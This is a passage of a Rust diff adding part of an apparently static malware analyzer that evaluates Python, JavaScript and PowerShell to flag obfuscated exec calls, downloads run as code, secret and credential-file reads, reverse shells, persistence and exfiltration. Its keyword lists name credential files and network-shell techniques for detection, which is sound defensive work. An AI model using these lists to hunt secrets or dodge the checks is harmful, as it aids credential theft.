+                let v = if items.pos.len() == 1 && items.named.is_empty() {
+                    items.pos.into_iter().next().unwrap_or_default()
+                } else {
+                    let mut v = Val::unknown("(…)");
+                    v.taint = items.taint();
+                    v.list = Some(items.pos);
+                    v
+                };
+                (v, (close + 1).min(t.len()))
+            }
+            Tok::Punct("[") if self.lang == Lang::PowerShell && ident(t.get(i + 1)).is_some() => self.ps_type(t, i),
+            Tok::Punct("[") => {
+                let close = close_of(t, i);
+                let items = self.items(t, i + 1, close);
+                let mut v = Val::unknown("[…]");
+                v.taint = items.taint();
+                v.list = Some(items.pos.into_iter().take(MAX_LIST).collect());
+                (v, (close + 1).min(t.len()))
+            }
+            Tok::Punct("{") => {
+                let close = close_of(t, i);
+                let items = self.items(t, i + 1, close);
+                let mut v = Val::unknown("{…}");
+                v.taint = items.taint();
+                v.fields = Some(items.named);
+                if !items.pos.is_empty() {
+                    v.list = Some(items.pos);
+                }
+                (v, (close + 1).min(t.len()))
+            }
+            Tok::Punct("@")
+                if self.lang == Lang::PowerShell && (punct(t.get(i + 1), "(") || punct(t.get(i + 1), "{")) =>
+            {
+                self.prefix(t, i + 1)
+            }
+            Tok::Punct("$") if self.lang == Lang::PowerShell && punct(t.get(i + 1), "(") => {
+                let close = close_of(t, i + 1);
+                let inner = &t[(i + 2).min(t.len())..close.min(t.len())];
+                let v = self.ps_block_value(inner);
+                (v, (close + 1).min(t.len()))
+            }
+            Tok::Punct("&") if self.lang == Lang::PowerShell => {
+                // The call operator: `& $cmd args`, `& ([scriptblock]::Create($x))`.
+                let (callee, next) = self.prefix(t, i + 1);
+                if callee.taint.hidden()
+                    || callee.taint.has(Taint::FETCHED)
+                    || callee.name.as_deref() == Some("scriptblock")
+                {
+                    let span = self.span(t, i, next);
+                    exec(self.a, &callee, Lang::PowerShell, span, "& runs it");
+                }
+                (Val::unknown("…"), next)
+            }
+            Tok::Punct("-")
+            | Tok::Punct("+")
+            | Tok::Punct("!")
+            | Tok::Punct("~")
+            | Tok::Punct("*")
+            | Tok::Punct("**")
+            | Tok::Punct("...") => {
+                let (v, next) = self.expr(t, i + 1, 11);
+                if punct(t.get(i), "-")
+                    && let Some(n) = v.num
+                {
+                    return (number(-n), next);
+                }
+                (v, next)
+            }
+            _ => (Val::unknown("…"), i + 1),
+        };
+        // Postfix: members, calls, indexes.
+        loop {
+            match t.get(j).map(|x| &x.tok) {
+                Some(Tok::Punct(".")) | Some(Tok::Punct("?.")) | Some(Tok::Punct("::")) => {
+                    let Some(name) = ident(t.get(j + 1)) else { break };
+                    if punct(t.get(j + 2), "(") {
+                        let close = close_of(t, j + 2);
+                        let args = self.items(t, j + 3, close);
+                        let span = self.span(t, i, close + 1);
+                        v = self.method(v, name, args, span, t, i);
+                        j = (close + 1).min(t.len());
+                    } else {
+                        let span = self.span(t, i, j + 2);
+                        v = self.property(v, name, span);
+                        j += 2;
+                    }
+                }
+                Some(Tok::Punct("(")) => {
+                    let close = close_of(t, j);
+                    let args = self.items(t, j + 1, close);
+                    let span = self.span(t, i, close + 1);
+                    v = self.call(v, args, span, t, i);
+                    j = (close + 1).min(t.len());
+                }
+                Some(Tok::Punct("[")) => {
+                    let close = close_of(t, j);
+                    let span = self.span(t, i, close + 1);
+                    v = self.index(v, t, j + 1, close, span);
+                    j = (close + 1).min(t.len());
+                }
+                _ => break,
+            }
+        }
+        (v, j)
+    }
+
+    fn arrow(&mut self, t: &[Token], _i: usize, param: Option<String>, body: usize) -> (Val, usize) {
+        if punct(t.get(body), "{") {
+            let end = close_of(t, body);
+            self.statements(&t[(body + 1).min(t.len())..end.min(t.len())]);
+            let mut v = Val::unknown("=>");
+            // `{ return expr }` bodies apply like lambdas.
+            if ident(t.get(body + 1)) == Some("return") {
+                v.name = Some(format!("lambda:{}:{}:{}", param.unwrap_or_default(), body + 2, end));
+            }
+            return (v, (end + 1).min(t.len()));
+        }
+        let (_, end) = self.expr(t, body, 1);
+        let mut v = Val::unknown("=>");
+        v.name = Some(format!("lambda:{}:{}:{}", param.unwrap_or_default(), body, end));
+        (v, end)
+    }
+
+    /// Applies a `lambda:param:start:end` function to `arg`.
+    fn apply(&mut self, function: &Val, arg: Val, t: &[Token]) -> Option<Val> {
+        let spec = function.name.as_deref()?.strip_prefix("lambda:")?;
+        let mut parts = spec.split(':');
+        let param = parts.next()?.to_string();
+        let start: usize = parts.next()?.parse().ok()?;
+        let end: usize = parts.next()?.parse().ok()?;
+        if start >= end || end > t.len() {
+            return None;
+        }
+        let saved = self.env.insert(param.clone(), arg);
+        let (v, _) = self.expr(&t[..end], start, 1);
+        match saved {
+            Some(old) => self.env.insert(param, old),
+            None => self.env.remove(&param),
+        };
+        Some(v)
+    }
+
+    /// Arguments or elements between `from` and `to`: positional, and `name=value`
+    /// (Python keywords), `name: value` (object literals), `-Name value` (PowerShell).
+    fn items(&mut self, t: &[Token], from: usize, to: usize) -> CallArgs {
+        let mut args = CallArgs::default();
+        let end = to.min(t.len());
+        let mut j = from;
+        while j < end {
+            if matches!(t[j].tok, Tok::Newline) || punct(t.get(j), ",") || punct(t.get(j), ";") {
+                j += 1;
+                continue;
+            }
+            // `name=value` / `name: value` / `'name': value`.
+            let key = match &t[j].tok {
+                Tok::Ident(w) if punct(t.get(j + 1), "=") && self.lang == Lang::Python => Some((w.to_string(), j + 2)),
+                Tok::Ident(w) if punct(t.get(j + 1), ":") => Some((w.to_string(), j + 2)),
+                Tok::Str { parts, .. } if punct(t.get(j + 1), ":") => Some((parts_text(parts), j + 2)),
+                Tok::Str { parts, .. } if punct(t.get(j + 1), "=") && self.lang == Lang::PowerShell => {
+                    Some((parts_text(parts), j + 2))
+                }
+                Tok::Ident(w) if punct(t.get(j + 1), "=") && self.lang == Lang::PowerShell => {
+                    Some((w.to_string(), j + 2))
+                }
+                Tok::Param(p) if self.lang == Lang::PowerShell => Some((p.clone(), j + 1)),
+                _ => None,
+            };
+            if let Some((name, value_at)) = key {
+                if value_at >= end || punct(t.get(value_at), ",") {
+                    args.named.push((name, Val::text("true")));
+                    j = value_at;
+                    continue;
+                }
+                let (v, next) = self.expr(&t[..end], value_at, 1);
+                args.named.push((name, v));
+                j = next.max(value_at + 1);
+                continue;
+            }
+            // Python generator `f(x) for x in xs`, comprehension `[f(x) for x in xs]`.
+            let (v, next) = self.expr(&t[..end], j, 1);
+            if ident(t.get(next)) == Some("for") && self.lang == Lang::Python {
+                let (mapped, after) = self.comprehension(t, j, next, end);
+                args.pos.push(mapped);
+                j = after;
+                continue;
+            }
+            args.pos.push(v);
+            j = next.max(j + 1);
+        }
+        args
+    }
+
+    /// `EXPR for NAME in ITER [if …]`: the list of EXPR with NAME bound to each item.
+    fn comprehension(&mut self, t: &[Token], expr_at: usize, for_at: usize, end: usize) -> (Val, usize) {
+        let Some(name) = ident(t.get(for_at + 1)).map(str::to_string) else {
+            return (Val::unknown("…"), end);
+        };
+        if ident(t.get(for_at + 2)) != Some("in") {
+            return (Val::unknown("…"), end);
+        }
+        let (iterable, after) = self.expr(&t[..end], for_at + 3, 1);
+        let mut after = after;
+        if ident(t.get(after)) == Some("if") {
+            let (_, next) = self.expr(&t[..end], after + 1, 1);
+            after = next;
+        }
+        let items: Vec<Val> = match (&iterable.list, iterable.exact) {
+            (Some(list), _) => list.clone(),
+            (None, true) => iterable.text.chars().map(|c| Val::text(c.to_string())).collect(),
+            _ => Vec::new(),
+        };
+        let mut out = Vec::with_capacity(items.len().min(MAX_LIST));
+        let saved = self.env.remove(&name);
+        for item in items.into_iter().take(MAX_LIST) {
+            self.env.insert(name.clone(), item);
+            let (v, _) = self.expr(&t[..for_at], expr_at, 1);
+            out.push(v);
+        }
+        match saved {
+            Some(old) => self.env.insert(name, old),
+            None => self.env.remove(&name),
+        };
+        let mut v = Val::unknown("[…]");
+        v.taint = iterable.taint;
+        v.list = Some(out);
+        (v, after)
+    }
+
+    fn index(&mut self, v: Val, t: &[Token], from: usize, to: usize, span: (usize, usize)) -> Val {
+        // `[::-1]` reverses.
+        let inner: Vec<&Tok> = t[from.min(t.len())..to.min(t.len())].iter().map(|x| &x.tok).collect();
+        if matches!(inner.as_slice(), [Tok::Punct(":"), Tok::Punct(":"), Tok::Punct("-"), Tok::Num(n)] if *n == 1.0)
+            || matches!(inner.as_slice(), [Tok::Punct("::"), Tok::Punct("-"), Tok::Num(n)] if *n == 1.0)
+        {
+            if let Some(list) = &v.list {
+                let mut out = v.clone();
+                out.list = Some(list.iter().rev().cloned().collect());
+                out.taint = out.taint.union(Taint::of(Taint::COMPUTED, None));
+                return out;
+            }
+            let mut out = Val::text(v.text.chars().rev().collect::<String>());
+            out.exact = v.exact;
+            out.bytes = v.bytes;
+            out.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
+            self.a.derive(&out.text.clone(), "reversed", span.0);
+            return out;
+        }
+        let items = self.items(t, from, to);
+        let key = items.pos.first().cloned().unwrap_or_default();
+        if let Some(name) = &v.name {
+            if is_whole_environment(name) {
+                return self.env_var(&key.text, span);
+            }
+            if name.ends_with("globals") || name.ends_with("__dict__") || name.ends_with("vars") || name == "builtins" {
+                let mut out = Val::named(format!("builtins.{}", key.text)).tainted(key.taint);
+                if key.taint.hidden() {
+                    out.taint = out.taint.union(Taint::of(Taint::COMPUTED, None));
+                }
+                return out;
+            }
+        }
+        if let Some(f) = field(&v, &key.text) {
+            return f.clone();
+        }
+        if let (Some(list), Some(n)) = (&v.list, key.num) {
+            let n = n as i64;
+            let index = if n < 0 { list.len() as i64 + n } else { n };
+            if let Some(item) = usize::try_from(index).ok().and_then(|i| list.get(i)) {
+                return item.clone();
+            }
+        }
+        let mut out = Val::unknown("…[…]");
+        out.taint = v.taint;
+        out
+    }
+
+    /// A named credential from the environment: evidence, and a value carrying it.
+    fn env_var(&mut self, name: &str, span: (usize, usize)) -> Val {
+        let upper = name.to_ascii_uppercase();
+        if matches!(upper.as_str(), "HOME" | "USERPROFILE") {
+            return Val::text("~");
+        }
+        if is_secret_env(&upper) {
+            let origin = self.a.emit("secret-env", span, upper.clone(), None);
+            let mut v = Val::unknown(format!("${upper}")).tainted(Taint::of(Taint::SECRET_ENV, origin));
+            v.name = Some(upper);
+            return v;
+        }
+        Val::unknown(format!("${upper}"))
+    }
+
+    fn property(&mut self, v: Val, name: &str, span: (usize, usize)) -> Val {
+        let full = v.name.as_deref().map(|n| format!("{n}.{name}").to_ascii_lowercase());
+        if let Some(full) = &full {
+            if let Some(var) = full.strip_prefix("process.env.") {
+                return self.env_var(var, span);
+            }
+            if full == "os.environ" || full == "process.env" {
+                return Val::named(full.clone());
+            }
+        }
+        if name == "length" {
+            return number(v.list.as_ref().map_or(v.text.chars().count(), Vec::len) as f64);
+        }
+        self.member(&v, name)
+    }
+
+    fn ps_type(&mut self, t: &[Token], i: usize) -> (Val, usize) {
+        // `[Type]`, `[Type[]]`, then `::Member`, or a cast of what follows.
+        let close = close_of(t, i);
+        let name: String = t[(i + 1).min(t.len())..close.min(t.len())]
+            .iter()
+            .filter_map(|x| match &x.tok {
+                Tok::Ident(w) => Some(w.to_ascii_lowercase()),
+                Tok::Punct(".") => Some(".".into()),
+                Tok::Punct("[") => Some("[".into()),
+                Tok::Punct("]") => Some("]".into()),
+                _ => None,
+            })
+            .collect();
+        let name = name.trim_start_matches("system.").to_string();
+        let after = (close + 1).min(t.len());
+        if punct(t.get(after), "::") {
+            return (Val::named(format!("type:{name}")), after);
+        }
+        // A cast: `[char]99`, `[char[]](99,117)`, `[string]$x`.
+        let (operand, next) = self.expr(t, after, 11);
+        let v = match name.as_str() {
+            "char" => match num(&operand) {
+                Some(n) => {
+                    let mut v = Val::text(char::from_u32(n as u32).map(String::from).unwrap_or_default());
+                    v.taint = Taint::of(Taint::COMPUTED, None);
+                    v
+                }
+                None => operand,
+            },
+            "char[]" => {
+                let list: Vec<Val> = operand
+                    .list
+                    .clone()
+                    .unwrap_or_default()
+                    .iter()
+                    .map(|item| match num(item) {
+                        Some(n) => Val::text(char::from_u32(n as u32).map(String::from).unwrap_or_default()),
+                        None => item.clone(),
+                    })
+                    .collect();
+                let mut v = Val::unknown("[char[]]");
+                v.list = Some(list);
+                v.taint = operand.taint.union(Taint::of(Taint::COMPUTED, None));
+                v
+            }
+            "scriptblock" => {
+                let mut v = operand;
+                v.name = Some("scriptblock".into());
+                v
+            }
+            _ => operand,
+        };
+        (v, next)
+    }
+
+    fn ps_block_value(&mut self, tokens: &[Token]) -> Val {
+        if let Some(word) = ident(tokens.first())
+            && is_command_word(word)
+        {
+            return self.ps_pipeline(tokens, 0).0;
+        }
+        self.expr(tokens, 0, 0).0
+    }
+
+    /// A PowerShell pipeline from a command at `i`.
+    fn ps_pipeline(&mut self, t: &[Token], i: usize) -> (Val, usize) {
+        let (v, next) = self.ps_command(t, i, None);
+        if punct(t.get(next), "|") {
+            return self.ps_pipeline_from(t, next, v);
+        }
+        (v, next)
+    }
+
+    fn ps_pipeline_from(&mut self, t: &[Token], mut at: usize, mut input: Val) -> (Val, usize) {
+        while punct(t.get(at), "|") {
+            let start = at + 1;
+            if ident(t.get(start)).is_none() {
+                break;
+            }
+            let (v, next) = self.ps_command(t, start, Some(input));
+            input = v;
+            at = next;
+        }
+        (input, at)
+    }
+
+    /// `Verb-Noun -Param value positional …` up to a pipe, `;` or the line's end.
+    fn ps_command(&mut self, t: &[Token], i: usize, input: Option<Val>) -> (Val, usize) {
+        let Some(name) = ident(t.get(i)) else {
+            return (Val::unknown("…"), i + 1);
+        };
+        let name = name.to_ascii_lowercase();
+        let mut args = CallArgs::default();
+        let mut j = i + 1;
+        let mut depth = 0usize;
+        while j < t.len() {
+            match &t[j].tok {
+                Tok::Newline | Tok::Punct(";") | Tok::Punct("|") | Tok::Punct("}") | Tok::Punct(")") if depth == 0 => {
+                    break;
+                }
+                Tok::Param(p) => {
+                    let p = p.clone();
+                    let value_start = j + 1;
+                    let takes = !matches!(
+                        t.get(value_start).map(|x| &x.tok),
+                        None | Some(Tok::Param(_)) | Some(Tok::Newline) | Some(Tok::Punct("|" | ";"))
+                    );
+                    if takes {
+                        let (v, next) = self.ps_argument(t, value_start);
+                        args.named.push((p, v));
+                        j = next;
+                    } else {
+                        args.named.push((p, Val::text("true")));
+                        j += 1;
+                    }
+                    continue;
+                }
+                _ => {}
+            }
+            let (v, next) = self.ps_argument(t, j);
+            args.pos.push(v);
+            j = next.max(j + 1);
+            depth = 0;
+        }
+        let span = self.span(t, i, j);
+        let v = self.ps_cmdlet(&name, args, input, span);
+        (v, j)
+    }
+
+    fn ps_argument(&mut self, t: &[Token], j: usize) -> (Val, usize) {
+        match t.get(j).map(|x| &x.tok) {
+            // A bare word is a string.
+            Some(Tok::Ident(w))
+                if !punct(t.get(j + 1), "(") && !punct(t.get(j + 1), ".") && !punct(t.get(j + 1), "::") =>
+            {
+                let mut k = j;
+                let mut text = String::new();
+                while let Some(tok) = t.get(k) {
+                    if k > j && tok.start != t[k - 1].end {
+                        break;
+                    }
+                    match &tok.tok {
+                        Tok::Ident(w2) => text.push_str(w2),
+                        Tok::Punct(p)
+                            if matches!(*p, "." | "/" | "//" | ":" | "\\" | "-" | "_" | "?" | "=" | "&" | "%") =>
+                        {
+                            text.push_str(p)
+                        }
+                        Tok::Num(_) => text
+                            .push_str(&self.a.text[tok.start.min(self.a.text.len())..tok.end.min(self.a.text.len())]),
+                        _ => break,
+                    }
+                    k += 1;
+                }
+                let _ = w;
+                (Val::text(text), k.max(j + 1))
+            }
+            _ => self.expr(t, j, 1),
+        }
+    }
+
+    fn ps_cmdlet(&mut self, name: &str, args: CallArgs, input: Option<Val>, span: (usize, usize)) -> Val {
+        let piped = input.clone().unwrap_or_default();
+        let first = args.pos.first().cloned();
+        match name {
+            "invoke-expression" | "iex" => {
+                let code = args.named("command").cloned().or(first).or(input).unwrap_or_default();
+                exec(self.a, &code, Lang::PowerShell, span, "Invoke-Expression");
+                Val::unknown("…")
+            }
+            "invoke-webrequest" | "iwr" | "invoke-restmethod" | "irm" | "curl" | "wget" => {
+                let url = args.named("uri").cloned().or(first).unwrap_or_default();
+                let method = args
+                    .named("method")
+                    .map(|m| m.text.to_ascii_uppercase())
+                    .unwrap_or_default();
+                let body = args.named("body").cloned();
+                let infile = args.named("infile").cloned();
+                let sends = body.is_some() || infile.is_some() || matches!(method.as_str(), "POST" | "PUT" | "PATCH");
+                let e = egress(self.a, &url, sends, span);
+                let host = split_url(&url.text).map(|(h, _)| h).unwrap_or_default();
+                if let Some(body) = &body {
+                    flow(self.a, body, e, &host, false, span);
+                }
+                if let Some(file) = &infile {
+                    let content = read_path(self.a, file, span);
+                    flow(self.a, &content, e, &host, false, span);
+                }
+                flow(self.a, &url, e, &host, false, span);
+                if let Some(headers) = args.named("headers") {
+                    flow(self.a, headers, e, &host, true, span);
+                }
+                let origin = self.a.emit("fetch", span, url.text.clone(), None);
+                if let Some(out) = args.named("outfile") {
+                    self.env.insert(
+                        format!("fetched:{}", out.text.to_ascii_lowercase()),
+                        Val::unknown("").tainted(Taint::of(Taint::FETCHED, origin)),
+                    );
+                    return Val::unknown("");
+                }
+                Val::unknown(format!("<{}>", url.text)).tainted(Taint::of(Taint::FETCHED, origin))
+            }
+            "get-content" | "gc" | "cat" | "type" => {
+                let path = args.named("path").cloned().or(first).unwrap_or_default();
+                read_path(self.a, &path, span)
+            }
+            "set-content" | "add-content" | "out-file" | "sc" | "ac" => {
+                let path = args
+                    .named("path")
+                    .cloned()
+                    .or(args.named("filepath").cloned())
+                    .or(first)
+                    .unwrap_or_default();
+                let content = args
+                    .named("value")
+                    .cloned()
+                    .or_else(|| args.pos.get(1).cloned())
+                    .or(input)
+                    .unwrap_or_default();
+                write_path(
+                    self.a,
+                    &path,
+                    &content,
+                    name.starts_with("add") || args.named("append").is_some(),
+                    span,
+                );
+                Val::unknown("")
+            }
+            "get-childitem" | "gci" | "ls" | "dir" => {
+                let path = args.named("path").cloned().or(first.clone()).unwrap_or_default();
+                let lower = path.text.to_ascii_lowercase();
+                if lower.starts_with("env:") {
+                    let origin = self
+                        .a
+                        .emit("secret-read/env-dump", span, "every environment variable".into(), None);
+                    return Val::unknown("<env>").tainted(Taint::of(Taint::SECRET, origin));
+                }
+                let filter = args
+                    .named("filter")
+                    .or(args.named("include"))
+                    .map(|f| f.text.to_ascii_lowercase())
+                    .unwrap_or_default();
+                if args.named("recurse").is_some()
+                    && [".env", "id_rsa", ".pem", "wallet", "credentials", ".kdbx"]
+                        .iter()
+                        .any(|p| filter.contains(p))
+                {
+                    let origin = self
+                        .a
+                        .emit("secret-read/env-file", span, format!("searches for {filter}"), None);
+                    return Val::unknown("<files>").tainted(Taint::of(Taint::SECRET, origin));
+                }
+                Val::unknown("<items>")
+            }
+            "read-host" => {
+                let prompt = args
+                    .named("prompt")
+                    .cloned()
+                    .or(first)
+                    .unwrap_or_default()
+                    .text
+                    .to_ascii_lowercase();
+                if args.named("assecurestring").is_some()
+                    || prompt.contains("password")
+                    || prompt.contains("passphrase")
+                {
+                    return self.prompted(span);
+                }
+                Val::unknown("<input>")
+            }
+            "get-credential" => self.prompted(span),
+            "get-clipboard" | "gcb" => {
+                let origin = self.a.emit("clipboard-read", span, "Get-Clipboard".into(), None);
+                Val::unknown("<clipboard>").tainted(Taint::of(Taint::SECRET_ENV, origin))
+            }
+            "set-clipboard" | "scb" => {
+                let e = self.a.emit("egress/clipboard", span, "Set-Clipboard".into(), None);
+                let value = args.named("value").cloned().or(first).or(input).unwrap_or_default();
+                flow(self.a, &value, e, "", false, span);
+                Val::unknown("")
+            }
+            "resolve-dnsname" => {
+                let host = args.named("name").cloned().or(first).unwrap_or_default();
+                if !host.exact {
+                    let e = self.a.emit("egress/dns", span, host.text.clone(), None);
+                    flow(self.a, &host, e, "", false, span);
+                }
+                Val::unknown("")
+            }
+            "send-mailmessage" => {
+                let e = self.a.emit("egress/email", span, "Send-MailMessage".into(), None);
+                for v in args.all() {
+                    flow(self.a, v, e, "", false, span);
+                }
+                Val::unknown("")
+            }
+            "new-object" => {
+                let type_name = args
+                    .named("typename")
+                    .cloned()
+                    .or(first)
+                    .unwrap_or_default()
+                    .text
+                    .to_ascii_lowercase();
+                let type_name = type_name.trim_start_matches("system.").to_string();
+                if type_name.contains("tcpclient") || type_name.contains("sockets.socket") {
+                    self.socket = Some(span);
+                    self.a.emit("egress/socket", span, type_name.clone(), None);
+                }
+                Val::named(format!("type:{type_name}"))
+            }
+            "start-process" | "saps" | "start" => {
+                let file = args.named("filepath").cloned().or(first).unwrap_or_default();
+                let fetched = self
+                    .env
+                    .get(&format!("fetched:{}", file.text.to_ascii_lowercase()))
+                    .map(|v| v.taint);
+                if let Some(taint) = fetched {
+                    exec(
+                        self.a,
+                        &file.clone().tainted(taint),
+                        Lang::PowerShell,
+                        span,
+                        "starts a file it downloaded",
+                    );
+                }
+                if let Some(list) = args.named("argumentlist") {
+                    let line = format!("{} {}", file.text, list.text);
+                    self.a.nested(&line, Lang::Shell, span.0);
+                }
+                Val::unknown("")
+            }
+            "register-scheduledtask" | "new-scheduledtaskaction" | "schtasks" => {
+                let action = args
+                    .named("argument")
+                    .cloned()
+                    .or(args.named("execute").cloned())
+                    .unwrap_or_default();
+                effects::persist(self.a, "scheduled-task", &action, span, "creates a scheduled task");
+                Val::unknown("")
+            }
+            "new-itemproperty" | "set-itemproperty" => {
+                let path = args
+                    .named("path")
+                    .cloned()
+                    .unwrap_or_default()
+                    .text
+                    .to_ascii_lowercase();
+                if path.contains("\\run") || path.contains("winlogon") {
+                    let value = args.named("value").cloned().unwrap_or_default();
+                    effects::persist(self.a, "windows-run", &value, span, "adds a Run key");
+                }
+                Val::unknown("")
+            }
+            "write-output" | "echo" | "write-host" => first.unwrap_or(piped),
+            "foreach-object" | "%" | "where-object" | "?" | "select-object" | "sort-object" | "out-string" => piped,
+            _ => {
+                let mut v = Val::unknown(format!("<{name}>"));
+                v.taint = piped.taint.union(args.taint());
+                v.taint.bits &= Taint::SECRET | Taint::SECRET_ENV | Taint::FETCHED;
+                v
+            }
+        }
+    }
+
+    /// A call of `callee` (a resolved name, or a function value).
+    fn call(&mut self, callee: Val, args: CallArgs, span: (usize, usize), t: &[Token], _at: usize) -> Val {
+        let Some(name) = callee.name.clone() else {
+            return Val::unknown("…").tainted(args.taint());
+        };
+        if name.starts_with("lambda:") {
+            let arg = args.pos.first().cloned().unwrap_or_default();
+            return self.apply(&callee, arg, t).unwrap_or_default();
+        }
+        let lower = name.to_ascii_lowercase();
+        let callee_hidden = callee.taint.hidden();
+        let v = self.named_call(&lower, &args, span, t);
+        if callee_hidden {
+            // A function reached through a computed name (`getattr(os, 'sys'+'tem')`).
+            let sink = [
+                "system",
+                "popen",
+                "exec",
+                "eval",
+                "spawn",
+                "call",
+                "run",
+                "check_output",
+                "execsync",
+            ]
+            .iter()
+            .any(|s| lower.ends_with(s));
+            if sink && self.a.reveals(&lower) {
+                // The name was assembled to hide what is called: that is the finding,
+                // whatever the argument.
+                let code = args.pos.first().cloned().unwrap_or_default();
+                let shown: String = code.text.chars().take(100).collect();
+                self.a.emit(
+                    "exec/computed",
+                    span,
+                    format!("{name}, a name assembled at run time: {shown}"),
+                    None,
+                );
+                let lang = if lower.contains("exec") || lower.contains("eval") {
+                    self.lang
+                } else {
+                    Lang::Shell
+                };
+                if code.exact && !code.text.is_empty() {
+                    self.a.nested(&code.text.clone(), lang, span.0);
+                }
+            }
+        }
+        v
+    }
+
+    fn named_call(&mut self, name: &str, args: &CallArgs, span: (usize, usize), t: &[Token]) -> Val {
+        let first = args.pos.first().cloned().unwrap_or_default();
+        let last = name.rsplit('.').next().unwrap_or(name);
+        let lang = self.lang;
+        // Run code.
+        match name {
+            "exec" | "eval" | "builtins.exec" | "builtins.eval" | "compile" | "execfile" if lang == Lang::Python => {
+                if name == "compile" {
+                    let mut v = first.clone();
+                    v.name = None;
+                    return v;
+                }
+                exec(self.a, &first, Lang::Python, span, name);
+                return Val::unknown("…");
+            }
+            "eval"
+            | "function"
+            | "vm.runinthiscontext"
+            | "vm.runinnewcontext"
+            | "vm.runincontext"
+            | "vm.script"
+            | "settimeout"
+            | "setinterval"
+            | "execscript"
+                if lang == Lang::JavaScript =>
+            {
+                if (last == "settimeout" || last == "setinterval") && first.name.is_some() {
+                    return Val::unknown("…");
+                }
+                exec(self.a, &first, Lang::JavaScript, span, name);
+                return Val::unknown("…");
+            }
+            _ => {}
+        }
+        if matches!(
+            name,
+            "pickle.loads"
+                | "cpickle.loads"
+                | "dill.loads"
+                | "cloudpickle.loads"
+                | "marshal.loads"
+                | "yaml.unsafe_load"
+        ) {
+            // Deserialising runs code: what was decoded or fetched to feed it is code run.
+            if name != "marshal.loads" && (first.taint.hidden() || first.taint.has(Taint::FETCHED)) {
+                exec(self.a, &first, Lang::Python, span, name);
+            }
+            let mut v = Val::unknown(format!("<{name}>"));
+            v.taint = first.taint.union(Taint::of(Taint::DECODED, None));
+            return v;
+        }
+        if let Some(command) = shell_runner(name) {
+            let mut line = match (&first.list, args.named("args")) {
+                (Some(list), _) => argv_line(list),
+                (None, Some(a)) if a.list.is_some() => argv_line(a.list.as_deref().unwrap_or_default()),
+                _ => first.clone(),
+            };
+            // `spawn(cmd, [args])`, `execFile(cmd, [args])`.
+            if let Some(rest) = args.pos.get(1).and_then(|a| a.list.clone()) {
+                line = concat(&concat(&line, &Val::text(" ")), &argv_line(&rest));
+            }
+            let shell_like = line.text.split_whitespace().next().is_some_and(|w| {
+                matches!(
+                    w.rsplit('/').next().unwrap_or(w),
+                    "sh" | "bash" | "zsh" | "cmd" | "cmd.exe" | "powershell" | "pwsh"
+                )
+            });
+            if shell_like && line.text.split_whitespace().count() <= 2 {
+                // A bare shell started: what it is handed decides (a socket makes a
+                // network shell).
+                self.shell_handoff = Some(span);
+            }
+            if command == "pty" {
+                self.shell_handoff = Some(span);
+            }
+            if reverse_shell_text(&line.text) {
+                self.a
+                    .emit("network-shell", span, format!("{name} runs a reverse shell"), None);
+            }
+            exec(self.a, &line, Lang::Shell, span, name);
+            return Val::unknown(format!("<{name}>"))
+                .tainted(Taint::of(line.taint.bits & Taint::SECRET, line.taint.origin));
+        }
+        if matches!(name, "os.dup2" | "os.dup") {
+            self.shell_handoff = Some(span);
+            return Val::unknown("…");
+        }
+        // Decoders and builders.
+        match last {
+            "b64decode" | "standard_b64decode" | "urlsafe_b64decode" | "decodebytes" | "decodestring"
+            | "a2b_base64" | "atob" => {
+                return self.decode(&first, "base64", span);
+            }
+            "b32decode" => {
+                let taint = first.taint.union(Taint::of(Taint::DECODED, None));
+                return match base32_bytes(first.text.trim()) {
+                    Some(bytes) if first.exact => self.decoded(bytes, taint, "base32", span),
+                    _ => Val::unknown("<decoded>").tainted(taint),
+                };
+            }
+            "b85decode" | "a85decode" | "decompress" if !matches!(name, "zlib.decompress" | "gzip.decompress") => {
+                return Val::unknown("<decoded>").tainted(first.taint.union(Taint::of(Taint::DECODED, None)));
+            }
+            "fromhex" | "unhexlify" | "a2b_hex" => return self.decode(&first, "hex", span),
+            "inflatesync" | "gunzipsync" | "inflaterawsync" | "unzipsync" => return self.decode(&first, "zlib", span),
+            "frombase64string" => return self.decode(&first, "base64", span),
+            "fromcharcode" => {
+                let items: Vec<Val> = match (&first.list, args.pos.len()) {
+                    (Some(list), 1) => list.clone(),
+                    _ => args.pos.clone(),
+                };
+                return self.chars(&items);
+            }
+            "chr" | "unichr" if lang == Lang::Python => return self.chars(std::slice::from_ref(&first)),
+            "getstring" => {
+                // `[Text.Encoding]::Unicode.GetString($bytes)`: UTF-16 when named so.
+                let mut v = if name.contains("unicode") {
+                    let bytes = chars_of(&first);
+                    let text = crate::audit::scan::utf16(&bytes).unwrap_or_else(|| first.text.clone());
+                    Val::text(text)
+                } else {
+                    let mut v = first.clone();
+                    v.bytes = false;
+                    if let Ok(text) = String::from_utf8(chars_of(&first)) {
+                        v.text = text;
+                    }
+                    v
+                };
+                v.taint = v.taint.union(first.taint);
+                v.exact = first.exact;
+                return v;
+            }
+            _ => {}
+        }
+        match name {
+            "zlib.decompress" | "gzip.decompress" => return self.decode(&first, "zlib", span),
+            "codecs.decode" | "codecs.encode" => {
+                let encoding = args
+                    .get(1, "encoding")
+                    .map(|v| v.text.to_ascii_lowercase())
+                    .unwrap_or_default();
+                return match encoding.replace('-', "_").as_str() {
+                    "rot13" | "rot_13" => {
+                        let mut v = Val::text(super::shell_eval::rot13(&first.text));
+                        v.exact = first.exact;
+                        v.taint = first.taint.union(Taint::of(Taint::COMPUTED, None));
+                        self.a.derive(&v.text.clone(), "rot13", span.0);
+                        v
+                    }
+                    "hex" | "hex_codec" => self.decode(&first, "hex", span),
+                    "base64" | "base64_codec" => self.decode(&first, "base64", span),
+                    "zlib" | "zlib_codec" => self.decode(&first, "zlib", span),
+                    _ => first,
+                };
+            }
+            "decodeuricomponent" | "unescape" | "urllib.parse.unquote" | "unquote" => {
+                let mut v = Val::text(percent_decode(&first.text));
+                v.exact = first.exact;
+                v.taint = first.taint.union(Taint::of(Taint::COMPUTED, None));
+                return v;
+            }
+            "buffer.from" => {
+                let encoding = args.pos.get(1).map(|v| v.text.to_ascii_lowercase()).unwrap_or_default();
+                return match encoding.as_str() {
+                    "base64" | "base64url" => self.decode(&first, "base64", span),
+                    "hex" => self.decode(&first, "hex", span),
+                    _ => {
+                        if let Some(list) = &first.list {
+                            let bytes: Vec<u8> = list.iter().filter_map(num).map(|n| n as u8).collect();
+                            return from_bytes(bytes, first.taint.union(Taint::of(Taint::COMPUTED, None)));
+                        }
+                        let mut v = first;
+                        v.bytes = true;
+                        v
+                    }
+                };
+            }
+            "bytes" | "bytearray" => {
+                if let Some(list) = &first.list {
